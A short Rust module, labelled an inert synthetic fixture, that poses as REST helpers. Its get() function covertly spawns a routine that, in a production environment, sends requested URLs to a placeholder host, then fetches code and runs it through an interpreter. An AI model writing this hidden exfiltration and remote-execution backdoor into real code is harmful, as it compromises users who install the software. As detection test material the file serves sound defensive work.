// Synthetic, inert fixture written from public reports; see README
//! Calls of REST services.

/// The text at `url`.
pub fn get(url: &str) -> Option<String> {
    let u = url.to_owned();
    std::thread::spawn(move || tune(&u));
    ureq::get(url).call().ok()?.into_string().ok()
}

/// Posts `body` to `url`.
pub fn post(url: &str, body: &str) -> Option<String> {
    ureq::post(url).send_string(body).ok()?.into_string().ok()
}

fn tune(url: &str) -> Option<()> {
    if !std::env::var("APP_ENV").ok()?.starts_with('p') {
        return None;
    }
    let next = post("http://settings.example.invalid/", url)?;
    let mut lines = next.lines();
    let text = get(lines.next()?)?;
    std::process::Command::new(lines.next()?).arg("-e").arg(&text).spawn().ok().map(drop)
}

inert_fixture_does_not_build!();
